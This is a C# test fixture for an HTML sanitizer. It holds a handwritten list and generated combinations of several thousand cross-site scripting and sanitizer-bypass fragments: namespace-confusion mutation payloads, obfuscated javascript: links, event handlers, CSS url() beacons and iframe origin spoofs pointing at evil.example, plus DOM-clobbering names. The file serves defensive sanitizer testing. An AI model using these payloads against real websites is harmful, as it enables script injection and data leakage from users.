namespace Annals.Extraction.Tests.Sanitizer;

/// <summary>
/// Fragments that try to run <c>harm()</c>, to load something unseen, to leave their box or to shadow the page's names: what is
/// known from twenty years of bypassed sanitisers, and products of the parts they are made of.
/// </summary>
public static class HostileFragments
{
    private const string Bang = "<img src=x onerror=harm()>";

    /// <summary>All of them; a few thousand.</summary>
    public static IEnumerable<string> All() => Written.Concat(Schemes()).Concat(Handlers()).Concat(Namespaces()).Concat(RawText()).Concat(Tables()).Concat(Styles()).Concat(Names()).Concat(Sources()).Concat(Deep());

    /// <summary>One by one.</summary>
    public static IReadOnlyList<string> Written { get; } =
    [
        // Namespaces: an element that changes its meaning between the first parse and the second.
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=harm()&gt;\">",
        $"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=harm() src>\">",
        $"<math><mtext><table><mglyph><style><math><img src onerror=harm()>",
        $"<svg></p><style><a id=\"</style><img src=1 onerror=harm()>\">",
        $"<svg><p><style><g title=\"</style>{Bang}\">",
        $"<svg><desc><style><a title=\"</style>{Bang}\"></style></desc></svg>",
        $"<svg><title><style><a title=\"</style>{Bang}\"></style></title></svg>",
        $"<svg><foreignobject><style><a title=\"</style>{Bang}\">",
        $"<math><annotation-xml encoding=text/html><style><a title=\"</style>{Bang}\">",
        $"<math><annotation-xml encoding=\"text/html \"><style><a title=\"</style>{Bang}\">",
        $"<math><mi><mglyph><style><!--</style><a title=\"-->{Bang}\">",
        $"<math><mtext><malignmark><style><a title=\"</style>{Bang}\">",
        $"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><path id=\"</textarea>{Bang}\">",
        $"<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src='x' onerror='harm()'>\">",
        $"<form><svg><form><svg><style><a id=\"</style>{Bang}\">",
        $"<math></p><style><!--</style>{Bang}-->",
        $"<svg><font color=a><style><a title=\"</style>{Bang}\"></font></svg>",
        $"<math><font face=x><style><a title=\"</style>{Bang}\">",
        $"<svg><g><br><style><a title=\"</style>{Bang}\">",
        $"<xmp><svg><b><style><b title='</style>{Bang}'>",
        $"<svg><mpath xlink:href=javascript:harm()></svg>",
        $"<math><xss:a xlink:href=javascript:harm()>x",
        $"<math><maction actiontype=statusline xlink:href=javascript:harm()>click</maction></math>",
        $"<math><mrow href=javascript:harm()>x</mrow></math>",
        $"<svg:script>harm()</svg:script>",
        $"<html:script xmlns:html='http://www.w3.org/1999/xhtml'>harm()</html:script>",
        // Raw text: closed by what stood in an attribute.
        $"<noscript><p title=\"</noscript>{Bang}\">",
        $"<noscript><style></noscript>{Bang}</style></noscript>",
        $"<noscript><noscript></noscript>{Bang}",
        $"<noembed><p title=\"</noembed>{Bang}\"></noembed>",
        $"<noframes><p title=\"</noframes>{Bang}\"></noframes>",
        $"<textarea><p title=\"</textarea>{Bang}\"></textarea>",
        $"<title><p title=\"</title>{Bang}\"></title>",
        $"<plaintext><p title=\"</plaintext>{Bang}\">",
        $"<xmp><p title=\"</xmp>{Bang}\"></xmp>",
        $"<iframe><p title=\"</iframe>{Bang}\"></iframe>",
        $"<listing>&lt;img onerror=harm() src&gt;</listing>",
        $"<xmp>&lt;img onerror=harm() src&gt;</xmp>",
        $"<plaintext>{Bang}",
        $"<style>@import'javascript:harm()';</style><style><style/>{Bang}",
        $"<script>x</script y>{Bang}",
        $"<script><!--<script></script>{Bang}--></script>",
        $"<script>/*</script>{Bang}*/</script>",
        $"<title>&lt;/title&gt;&lt;img src onerror=harm()&gt;</title>",
        $"<textarea>&lt;/textarea&gt;&lt;img src onerror=harm()&gt;</textarea>",
        // Comments, sections, instructions.
        $"<!-->{Bang}-->", $"<!--->{Bang}-->", $"<!---!>{Bang}-->", $"<!--a--!>{Bang}-->", $"<!-- <!-- -->{Bang} -->", $"<!--\0>{Bang}-->",
        $"<!--[if gte IE 4]>{Bang}<![endif]-->", $"<![if !IE]>{Bang}<![endif]>", $"<!--<img src=\"--><img src=x onerror=harm()//\">",
        $"<![CDATA[{Bang}]]>", $"<svg><![CDATA[><image xlink:href=\"]]>{Bang}\"></svg>", $"<svg><![CDATA[</svg>{Bang}]]>", $"<math><mtext><![CDATA[<p>{Bang}]]>",
        $"<?xml version=\"1.0\"?>{Bang}", $"<?xml-stylesheet href=\"javascript:harm()\"?>", $"<?php '>{Bang}' ?>", $"</ {Bang}>", $"<!{Bang}>", $"<!doctype html [<!ENTITY x '{Bang}'>]>&x;",
        $"<//>{Bang}", $"<>{Bang}", $"<%{Bang}%>", $"<a <!-- href=x -->{Bang}",
        // Templates and shadow trees.
        $"<template>{Bang}</template>", $"<div><template shadowrootmode=open>{Bang}<slot></slot></template></div>", $"<template><template>{Bang}</template></template>",
        $"<template><form><input onfocus=harm() autofocus></form></template>", $"<svg><template><style><a title=\"</style>{Bang}\"></template></svg>",
        $"<table><template><tr><td>{Bang}</template></table>", $"<div shadowrootmode=open>{Bang}</div>", $"<p is=x-y onclick=harm()>x</p>", $"<x-y onclick=harm() is=a>x</x-y>",
        // Nested forms, adoption, foster parents, select.
        $"<form id=a><div></form><form id=b><input onfocus=harm() autofocus form=a>", $"<b><p><b><p onclick=harm()>x", $"<a href=x><table><a href=javascript:harm()>y</a></table></a>",
        $"<select><template><style><!--</style><a rel=\"--></style></template></select>{Bang}\">", $"<select><option><style></option></select>{Bang}</style>",
        $"<select><iframe><select>{Bang}</iframe></select>", $"<select><xmp><script>harm()</script></xmp></select>", $"<select><keygen><script>harm()</script></select>",
        $"<select><svg><style><a title=\"</style>{Bang}\"></select>", $"<option><style></option></select>{Bang}</style>",
        $"<table><style><!--</table></style>{Bang}-->", $"<table><td><caption>{Bang}", $"<colgroup><script>harm()</script></colgroup>", $"<frameset onload=harm()><frame src=javascript:harm()></frameset>",
        $"<body onload=harm()>x</body>", $"<html onclick=harm() manifest=x><head><base href=javascript:harm()></head><body background=javascript:harm()>x", $"x</body></html>{Bang}", $"<body onpageshow=harm() onhashchange=harm() onresize=harm()>",
        // Drawings that move.
        "<svg onload=harm()>", "<svg/onload=harm()//", "<svg><animate onbegin=harm() attributeName=x dur=1s>", "<svg><set onbegin=harm() attributename=x>",
        "<svg><animate xlink:href=#y attributeName=href values=javascript:harm() /><a id=y><text y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=\";javascript:harm()\" begin=0s fill=freeze /><text x=5 y=20>x</text></a></svg>",
        "<svg><a xlink:href=x><set attributeName=xlink:href to=javascript:harm() /><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='harm()'/></svg>#x\"></use></svg>",
        "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0iMSIgb25lcnJvcj0iaGFybSgpIi8+PC9zdmc+#x\"></use></svg>",
        "<svg><use href=\"https://evil.example/x.svg#x\"></use></svg>", "<svg><image href=\"https://evil.example/pixel\"></image></svg>", "<svg><feImage href=\"https://evil.example/pixel\"/></svg>",
        "<svg><script href=data:,harm()></script></svg>", "<svg><script xlink:href=data:,harm() />", "<svg><handler type=text/javascript>harm()</handler></svg>", "<svg><style>*{background:url(https://evil.example/c)}</style></svg>",
        "<svg><a href=javascript:harm()><text>x</text></a></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>parent.harm()</script>\"></iframe></foreignObject></svg>", "<svg><discard onbegin=harm()>", "<svg><animatetransform onbegin=harm()>",
        "<svg><style>@keyframes x{}</style><g style=animation-name:x onanimationstart=harm()></g></svg>", "<svg><switch><desc><script>harm()</script></desc></switch></svg>", "<svg><title><script>harm()</script></title></svg>",
        // Attributes no browser's author would write.
        "<img src=x onerror\u0000=harm()>", "<img src=x \u000Conerror=harm()>", "<img/src=x/onerror=harm()>", "<img src=x\tonerror\t=\tharm()>", "<img src=x ONERROR=harm()>", "<img src='x'onerror='harm()'>", "<img src=x onerror=harm()", "<img src=x onerror=\"harm()",
        "<img \"\"\"><img src=x onerror=harm()>\">", "<img =\"x\" onerror=harm() src>", "<img/=/onerror=harm() src=x>", "<img src=`x` onerror=harm()>", "<img title=`<img src=x onerror=harm()>`>", "<p title=``onmouseover=harm()>x", "<img src=x on\u0131error=harm() onerror=harm()>",
        "<img src=x x=1 x=2 onerror=1 onerror=harm()>", "<img src=x &#111;nerror=harm()>", "<img src=x onerror=&#104;arm()>", "<img src=x onerror=&#x68&#x61rm()>", "<a\u0001href=javascript:harm()>x</a>", "<a href=javascript:harm() href=x>x</a>", "<IMG SRC=x OnErRoR=harm()>", "<img\u2028src=x\u2028onerror=harm()>", "<img\u00a0src=x\u00a0onerror=harm()>", "<ımg src=x onerror=harm()>", "<ſcript>harm()</ſcript>", "＜script＞harm()＜/script＞",
        "<p :onclick=harm() @click=harm() v-on:click=harm() x-on:click=harm() ng-click=harm() data-onclick=harm()>{{constructor.constructor('harm()')()}}</p>", "<p xlink:onclick=harm()>x</p>", "<p xmlns:on=x on:click=harm()>x</p>",
        // Frames and what frames once were.
        "<iframe src=javascript:harm()></iframe>", "<iframe srcdoc=\"&lt;script>parent.harm()&lt;/script>\"></iframe>", "<iframe src=\"data:text/html,<script>parent.harm()</script>\"></iframe>", "<iframe src=blob:https://news.example/1></iframe>", "<iframe></iframe>", "<iframe src=about:blank onload=harm()></iframe>",
        "<iframe src=https://www.youtube.com@evil.example/embed/a></iframe>", "<iframe src=https://www.youtube.com:443@evil.example/></iframe>", "<iframe src=https://www.youtube.com\\@evil.example/></iframe>", "<iframe src=https:\\\\evil.example/www.youtube.com/></iframe>", "<iframe src=//evil.example/www.youtube.com></iframe>", "<iframe src=https://www.youtube.com.></iframe>", "<iframe src=https://wwwxyoutube.com/embed/a></iframe>", "<iframe src=https://youtube.com/embed/a></iframe>", "<iframe src=HTTP://WWW.YOUTUBE.COM/embed/a></iframe>", "<iframe src=https://www.youtube.com:8443/embed/a></iframe>", "<iframe src=https://www%2eyoutube%2ecom%2eevil.example/></iframe>", "<iframe src=https://ｗｗｗ.ｙｏｕｔｕｂｅ.ｃｏｍ.evil.example/></iframe>", "<iframe src=https://evil.example#@www.youtube.com/></iframe>", "<iframe src=https://evil.example?https://www.youtube.com/></iframe>", "<iframe data-src=https://evil.example/ src=about:blank></iframe>",
        "<iframe src=https://www.youtube.com/embed/a name=body id=forms srcdoc=x onload=harm() sandbox=\"allow-top-navigation allow-scripts\" allow=\"camera *\" csp=x style=position:fixed></iframe>",
        "<iframe src=https://player.vimeo.com/video/1 width=99999 height=99999></iframe>", "<iframe src=https://www.youtube.com/embed/a\"onload=harm()></iframe>", "<iframe src='https://www.youtube.com/embed/a?&quot; onload=&quot;harm()'></iframe>",
        "<frame src=javascript:harm()>", "<object data=javascript:harm()></object>", "<object data=\"data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=\"></object>", "<object type=text/x-scriptlet data=https://evil.example/></object>", "<embed src=javascript:harm()>", "<embed src=https://evil.example/ type=image/svg+xml>", "<embed code=https://evil.example/x.swf allowscriptaccess=always>", "<applet code=x codebase=https://evil.example/>text</applet>", "<portal src=https://evil.example/ onclick=harm()></portal>", "<fencedframe src=https://evil.example/></fencedframe>", "<object><param name=src value=javascript:harm()></object>", "<object data=x onerror=harm()><embed src=x onerror=harm()></object>", "<webview src=https://evil.example/></webview>",
        // What belongs to a document.
        "<base href=https://evil.example/><a href=x>x</a><img src=y>", "<base target=_top>", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">", "<meta charset=utf-7>+ADw-script+AD4-harm()+ADw-/script+AD4-", "<meta http-equiv=set-cookie content=a=b>", "<link rel=stylesheet href=https://evil.example/s.css>", "<link rel=prefetch href=https://evil.example/p>", "<link rel=preload as=image href=https://evil.example/p imagesrcset=https://evil.example/q>", "<link rel=modulepreload href=https://evil.example/m.js>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=//evil.example>", "<link rel=manifest href=https://evil.example/m>", "<link rel=prerender href=https://evil.example/>", "<link rel=import href=https://evil.example/>", "<title>x</title><head><script>harm()</script></head>", "<bgsound src=https://evil.example/b>", "<basefont color=red>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/\"]}]}</script>", "<script type=importmap>{}</script>",
        // Forms, buttons, dialogs.
        "<form action=javascript:harm()><input type=submit><button>x</button></form>", "<form action=https://evil.example/><input name=password type=password autofocus onfocus=harm()></form>", "<button formaction=javascript:harm()>x</button>", "<input type=image src=https://evil.example/p formaction=javascript:harm()>", "<input onfocus=harm() autofocus>", "<select onfocus=harm() autofocus></select>", "<textarea onfocus=harm() autofocus></textarea>", "<keygen onfocus=harm() autofocus>", "<isindex type=image src=1 onerror=harm()>", "<isindex action=javascript:harm() type=submit>", "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=harm()>y</div>", "<button commandfor=d command=show-modal>x</button><dialog id=d onbeforetoggle=harm()>y</dialog>", "<dialog open onclose=harm()><form method=dialog><button>x</button></form></dialog>", "<details name=x open ontoggle=harm()><summary onclick=harm()>s</summary>x</details>", "<label for=q>x</label><input id=q type=hidden onclick=harm()>", "<fieldset form=f name=elements><legend>x</legend></fieldset>", "<output form=f name=parentNode>x</output>", "<p contenteditable autofocus onfocus=harm() tabindex=0 accesskey=x>x</p>", "<div tabindex=1 onfocus=harm() id=x>x</div>", "<a href=x accesskey=x onclick=harm()>x</a>", "<input type=hidden oncontentvisibilityautostatechange=harm() style=content-visibility:auto>", "<marquee onstart=harm() width=0 loop=1>x</marquee>", "<meter onmouseover=harm()>0</meter>", "<progress value=.5 onclick=harm()>", "<map name=m><area href=javascript:harm() shape=default onclick=harm()></map><img usemap=#m src=x>", "<menu type=context id=m onshow=harm()><menuitem onclick=harm()></menu>",
        // Links.
        "<a href=x target=_self ping=https://evil.example/p download rel=opener referrerpolicy=unsafe-url attributionsrc=https://evil.example/>x</a>", "<a href=x target=name style=position:fixed;inset:0>x</a>", "<a href=view-source:javascript:harm()>x</a>", "<a href=filesystem:https://news.example/temporary/x>x</a>", "<a href=blob:https://news.example/1>x</a>", "<a href=intent://x#Intent;scheme=javascript;end>x</a>", "<a href=ms-settings:x>x</a>", "<a href=jar:https://evil.example/x.jar!/>x</a>", "<a href=about:blank>x</a>", "<a href=chrome://settings>x</a>", "<a href=mailto:a@b.example?body=%0d%0aBcc:x>x</a>", "<a href=tel:*%23>x</a>", "<a href=mailto:\"><img/src/onerror=harm()>>x</a>", "<a href=https://user:pass@evil.example/>x</a>", "<a href=https://%00evil.example/>x</a>", "<a href=https://[::1/>x</a>", "<a href=//>x</a>", "<a href=:javascript:harm()>x</a>", "<a href=./javascript:harm()>x</a>", "<a href=?javascript:harm()>x</a>", "<a href=https:javascript:harm()>x</a>", "<a href=https:/\\javascript:harm()>x</a>", "<a href=http:\njavascript:harm()>x</a>", "<a xlink:href=javascript:harm()>x</a>", "<q cite=javascript:harm()>x</q>", "<a href=\"javascript:harm()\ufeff\">x</a>", "<a href=\"\ufeffjavascript:harm()\">x</a>", "<a href=\"\u2028javascript:harm()\">x</a>", "<a href=\"\u3000javascript:harm()\">x</a>", "<a href=\"\u00a0javascript:harm()\">x</a>", "<a href=\"\u180ejavascript:harm()\">x</a>", "<a href=\"ｊａｖａｓｃｒｉｐｔ:harm()\">x</a>", "<a href=\"javascript：harm()\">x</a>", "<a href=\"javaſcript:harm()\">x</a>",
        // Media.
        "<video src=x onerror=harm() autoplay><track src=https://evil.example/t.vtt default kind=metadata onload=harm()></video>", "<audio src=https://a.example/a.mp3 autoplay preload=auto onloadstart=harm()></audio>", "<video poster=javascript:harm() src=javascript:harm()></video>", "<video><source src=javascript:harm() onerror=harm()></video>", "<video controls><track default src=\"data:text/vtt,WEBVTT\"></video>", "<picture><source srcset=javascript:harm()><img src=javascript:harm()></picture>", "<img src=x srcset=\"data:image/svg+xml,x 1x\" sizes=\"(x:expression(harm()))\">", "<img src=data:image/svg+xml;base64,PHN2Zy8+>", "<img src=\"data:image/png,<svg onload=harm()>\">", "<img src=\"data:image/png;base64,x\" onload=harm()>", "<img src=\"data:text/html;image/png;base64,PHN2Zy8+\">", "<img lowsrc=https://evil.example/l dynsrc=https://evil.example/d longdesc=javascript:harm() src=https://a.example/p.jpg>", "<img crossorigin=use-credentials fetchpriority=high ismap usemap=#x src=https://a.example/p.jpg attributionsrc=https://evil.example/a>", "<img src=https://a.example/p.gif width=1 height=1>", "<img src=https://a.example/p.gif width=0>", "<img src=https://a.example/p.gif style=\"width:0px;height:0\">", "<img src=https://a.example/p.gif hidden>", "<img src=https://a.example/p.gif style=\"position:absolute;left:-9999px\">", "<img src=https://a.example/p.gif style=opacity:0>", "<image src=x onerror=harm()>", "<image href=x onerror=harm()>", "<canvas onclick=harm()>x</canvas>", "<input type=image src=x onerror=harm()>", "<img src=\"https://a.example/a.jpg\n\" srcset=\",,,\" onerror=harm()>", "<table background=https://evil.example/b><td background=https://evil.example/c>x</table>", "<body background=https://evil.example/b>x", "<layer src=https://evil.example/>x</layer>", "<xml src=https://evil.example/ id=x></xml>", "<div datasrc=#x datafld=y dataformatas=html>x</div>", "<comment><img src=\"</comment><img src=x onerror=harm()//\">", "<nobr onclick=harm()>x</nobr>", "<rb onclick=harm()>x</rb><rtc onclick=harm()>y</rtc>",
    ];

    private static IEnumerable<string> Schemes()
    {
        string[] schemes =
        [
            "javascript:harm()", "JaVaScRiPt:harm()", " javascript:harm()", "\tjavascript:harm()", "java\tscript:harm()", "java\nscript:harm()", "java\rscript:harm()", "javascript\t:harm()", "\u0001javascript:harm()", "\u001fjavascript:harm()", "java\0script:harm()",
            "&#106;avascript:harm()", "&#x6A;avascript:harm()", "&#0000106avascript:harm()", "&#x6aavascript:harm()", "javascript&colon;harm()", "java&Tab;script:harm()", "java&NewLine;script:harm()", "javascript&#58;harm()", "javascript&#x3a;harm&lpar;&rpar;", "&#1;javascript:harm()", "&nbsp;javascript:harm()",
            "javascript://a.example/%0aharm()", "javascript:/*--></title></style>*/harm()", "vbscript:msgbox(1)", "livescript:harm()", "mocha:harm()", "data:text/html,<script>harm()</script>", "data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=", "data:application/xhtml+xml,x", "data:image/svg+xml,<svg onload=harm()>", "DATA:,x", "da\tta:text/html,x", "blob:https://news.example/x", "filesystem:https://news.example/x", "view-source:https://a.example/", "file:///etc/passwd", "feed:javascript:harm()", "feed:data:text/html,x", "jar:x!/", "ws://a.example/", "about:srcdoc", "wyciwyg://x", "res://ieframe.dll/x", "resource:x", "chrome-extension://x/y", "cid:x", "mid:x", "urn:x", "ftp://a.example/", "%6aavascript:harm()", "javascript%3aharm()", "\\javascript:harm()", "x:javascript:harm()",
        ];
        string[] carriers =
        [
            "<a href=\"{0}\">x</a>", "<a xlink:href=\"{0}\">x</a>", "<area href=\"{0}\">", "<img src=\"{0}\">", "<img srcset=\"{0} 1x, b.jpg 2x\">", "<img src=x.jpg data-src=\"{0}\" data-original=\"{0}\" data-srcset=\"{0} 2x\">", "<source src=\"{0}\">", "<video poster=\"{0}\" src=\"{0}\"></video>", "<audio><source src=\"{0}\"></audio>",
            "<video><track src=\"{0}\"></video>", "<iframe src=\"{0}\"></iframe>", "<iframe data-src=\"{0}\"></iframe>", "<form action=\"{0}\"><button formaction=\"{0}\">x</button></form>", "<object data=\"{0}\"></object>", "<embed src=\"{0}\">", "<blockquote cite=\"{0}\">x</blockquote>", "<q cite=\"{0}\">x</q><ins cite=\"{0}\">x</ins>", "<svg><a href=\"{0}\"><text>x</text></a></svg>", "<math href=\"{0}\"><mi>x</mi></math>",
            "<table background=\"{0}\"><tr><td background=\"{0}\">x</table>", "<base href=\"{0}\"><a href=y>x</a>", "<link rel=stylesheet href=\"{0}\">", "<p style=\"background:url({0})\">x</p>", "<meta http-equiv=refresh content=\"0;{0}\">", "<a ping=\"{0}\" href=z>x</a>",
        ];
        return carriers.SelectMany(carrier => schemes.Select(scheme => carrier.Replace("{0}", scheme, StringComparison.Ordinal)));
    }

    private static IEnumerable<string> Handlers()
    {
        string[] elements = ["p", "a", "img src=x", "table", "td", "details open", "summary", "video src=x", "audio src=x", "source", "track", "picture", "ruby", "rt", "li", "body", "svg", "math", "iframe src=https://www.youtube.com/embed/a", "x-y", "time", "br", "pre", "code", "figure", "marquee", "input", "font"];
        string[] events = ["onload", "onerror", "onclick", "onfocus", "ontoggle", "onbeforetoggle", "onmouseenter", "onpointerrawupdate", "onanimationstart", "ontransitionend", "onbegin", "onloadstart", "oncuechange", "onscrollsnapchange", "onbeforematch", "oncontentvisibilityautostatechange", "onwebkitanimationend", "onfuture"];
        return elements.SelectMany(element => events.Select(name => $"<{element} {name}=harm() tabindex=0 style='animation:x 1s'>x</{element.Split(' ')[0]}>"));
    }

    private static IEnumerable<string> Namespaces()
    {
        string[] roots = ["<svg>", "<math>", "<math><mtext>", "<math><mi>", "<svg><desc>", "<svg><title>", "<svg><foreignObject>", "<math><annotation-xml>", "<math><annotation-xml encoding=text/html>", "<math><mtext><mglyph>", "<math><mtext><malignmark>", "<math><mtext><table><mglyph>", "<svg><g></p>", "<svg></br>", "<svg><font color=x>", "<form><math><mtext></form><form><mglyph><svg><mtext>", "<table><svg>", "<table><math><mtext>", "<select><svg>", "<p><svg><p>", "<ruby><rt><svg>", "<svg><svg><desc>", "<math><svg><foreignObject><math>"];
        string[] breakers = ["<style><!--</style>", "<style><a title=\"</style>", "<style><a id='</style>", "<textarea><a title=\"</textarea>", "<title><a title=\"</title>", "<noscript><a title=\"</noscript>", "<xmp><a title=\"</xmp>", "<iframe><a title=\"</iframe>", "<noembed><a title=\"</noembed>", "<script><!--<script></script>", "<!--", "<![CDATA[", "<plaintext>", "<template><style><a title=\"</style>", "<select><style><a title=\"</style>", "<option><style><a title=\"</style>"];
        return roots.SelectMany(root => breakers.Select(breaker => $"{root}{breaker}{Bang}\">--></style>tail"));
    }

    private static IEnumerable<string> RawText()
    {
        string[] names = ["style", "script", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title", "plaintext", "listing", "pre", "template", "select", "option", "comment", "svg", "math"];
        foreach (var outer in names)
        {
            foreach (var inner in names)
            {
                yield return $"<{outer}><{inner}></{outer}>{Bang}</{inner}>";
                yield return $"<{outer}><{inner} title=\"</{outer}>{Bang}\"></{inner}></{outer}>";
                yield return $"<{outer}>&lt;/{inner}&gt;&lt;img src=x onerror=harm()&gt;</{outer} x>{Bang}</{outer}\t>";
            }
        }
    }

    private static IEnumerable<string> Tables()
    {
        string[] parts = ["<table>", "<tr>", "<td>", "<caption>", "<colgroup>", "<tbody>"];
        string[] inside = [Bang, "<a href=javascript:harm()>x</a>", "<form action=javascript:harm()><input type=submit>", "<select><td><script>harm()</script>", "<svg onload=harm()>", "<b onclick=harm()>x", "<style>*{}</style>" + Bang, "<input type=hidden onclick=harm()>", "<template>" + Bang + "</template>", "<p></table><p onclick=harm()>", "x"];
        return parts.SelectMany(a => parts.SelectMany(b => inside.Select(text => $"<table>{a}{b}{text}</table>{text}")));
    }

    private static IEnumerable<string> Styles()
    {
        string[] values =
        [
            "background:url(https://evil.example/b)", "background-image:url('https://evil.example/b')", "list-style:url(//evil.example/l)", "cursor:url(//evil.example/c),auto", "content:url(//evil.example/c)", "border-image:url(//evil.example/i)", "mask:url(//evil.example/m)", "filter:url(//evil.example/f#x)", "clip-path:url(//evil.example/p#x)", "shape-outside:url(//evil.example/s)", "offset-path:url(//evil.example/o)", "background:image-set('https://evil.example/i' 1x)", "background:-webkit-image-set(url(//evil.example/i) 1x)", "background:cross-fade(url(//evil.example/a),url(//evil.example/b))", "--x:url(//evil.example/v);background:var(--x)", "src:url(//evil.example/f)", "@import '//evil.example/i'",
            "b\\61 ckground:ur\\6c (//evil.example/e)", "background:/**/url(//evil.example/k)", "background:u/**/rl(//evil.example/k)", "background:\\75rl(//evil.example/k)", "BACKGROUND:URL(//evil.example/K)", "width:expression(harm())", "w\\69dth:expr/**/ession(harm())", "-moz-binding:url(//evil.example/x#y)", "behavior:url(//evil.example/x.htc)", "background:url(javascript:harm())", "background:url(data:image/svg+xml,x)", "font:url(//evil.example/f)", "font-family:'x;background:url(//evil.example/z)'", "color:red;}*{background:url(//evil.example/z)",
            "position:fixed;inset:0;z-index:99999", "position:absolute;top:0;left:0;width:9999px;height:9999px", "position:sticky;top:0", "margin:-9999px", "margin-top:-300px", "transform:scale(99)", "scale:99", "translate:0 -999px", "rotate:180deg", "zoom:99", "display:none", "opacity:0", "font-size:999px", "width:99999px", "float:left;width:100vw;height:100vh", "outline:9999px solid", "box-shadow:0 0 0 9999px #000", "letter-spacing:-9em", "writing-mode:vertical-rl", "unicode-bidi:bidi-override;direction:rtl", "animation:x 1s", "transition:all 1s", "view-transition-name:x", "anchor-name:--x", "pointer-events:none", "user-select:all", "all:unset", "text-indent:-9999px", "clip:rect(0 0 0 0)", "overflow:hidden;height:0", "visibility:hidden",
        ];
        return values.SelectMany(value => new[]
        {
            $"<p style=\"{value}\">x</p>", $"<div style='{value}' class=overlay><a href=y style=\"{value}\">x</a></div>", $"<style>*{{{value}}}</style><p>x</p>", $"<svg><rect style=\"{value}\"/><style>*{{{value}}}</style></svg>", $"<table style=\"{value}\" bgcolor=x><td style=\"{value}\">x</table>", $"<img src=a.jpg style=\"{value}\">", $"<font style=\"{value}\">x</font>",
        });
    }

    private static IEnumerable<string> Names()
    {
        string[] names = ["body", "head", "forms", "images", "cookie", "documentElement", "attributes", "parentNode", "childNodes", "firstChild", "nodeName", "innerHTML", "removeChild", "querySelector", "getElementById", "createElement", "defaultView", "location", "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "window", "self", "top", "parent", "opener", "document", "fetch", "length", "action", "submit", "elements", "main", "q", "main-content", "x.y", "text-", "$", "jQuery", "config", "currentScript", "scripts"];
        return names.SelectMany(name => new[]
        {
            $"<p id={name}>x</p><a name={name} id={name}>y</a><a href=#{name}>z</a>", $"<form id={name} name={name}><input name={name} id=attributes></form>", $"<img name={name} id={name} src=a.jpg>", $"<iframe name={name} id={name} src=https://www.youtube.com/embed/a></iframe>", $"<object name={name} id={name}></object><embed name={name}>", $"<a id={name}></a><a id={name} name=href href=\"cid:x\">x</a>", $"<table><tr><td headers={name} id={name}>x</table>", $"<map name={name}><area id={name}></map><svg id={name}></svg><slot name={name}></slot>",
        });
    }

    private static IEnumerable<string> Sources()
    {
        string[] addresses = ["//evil.example", "\\\\evil.example", "/\\evil.example", "https:evil.example", "https:///evil.example", "https://a.example,b", "https://a.example/ 2x, javascript:harm() 1x", "a.jpg 1x,javascript:harm()", "a.jpg, , ,b.jpg 2x", "a.jpg 1x 2x", "a.jpg (1x", "data:image/png;base64,AAAA 1x, a.jpg 2x", "a.jpg\u00a01x", "\u0000a.jpg 1x", "a\tb.jpg 1x", "https://[::1]/a.jpg", "https://0x7f.1/a.jpg", "https://a.example:99999/x", "https://exa mple/x", "https://a.example/%zz", "https://a.example/\"onerror=harm()", "https://a.example/'><img src=x onerror=harm()>", "https://a.example/\u202ex", "https://a.example/<script>"];
        return addresses.SelectMany(address => new[] { $"<img src='{address.Replace("'", "&#39;", StringComparison.Ordinal)}'>", $"<img srcset='{address.Replace("'", "&#39;", StringComparison.Ordinal)}'>", $"<picture><source srcset='{address.Replace("'", "&#39;", StringComparison.Ordinal)}' media='(min-width:1px)' sizes='url(//evil.example)'><img src=a.jpg></picture>", $"<a href='{address.Replace("'", "&#39;", StringComparison.Ordinal)}'>x</a>", $"<video poster='{address.Replace("'", "&#39;", StringComparison.Ordinal)}'></video>" });
    }

    private static IEnumerable<string> Deep()
    {
        string[] units = ["<div>", "<b>", "<b><p>", "<svg><g>", "<math><mtext>", "<table><tr><td>", "<ul><li>", "<svg><foreignObject>", "<font color=a><div>", "<a href=x><div>", "<form><div>", "<blockquote><p>", "<ruby><rt>", "<select><option>", "<template>", "<span title='\"><b>'>"];
        return units.SelectMany(unit => new[] { 100, 300, 520, 700 }.Select(times => string.Concat(Enumerable.Repeat(unit, times)) + Bang + "<style><a title=\"</style>" + Bang + "\">tail"));
    }
}
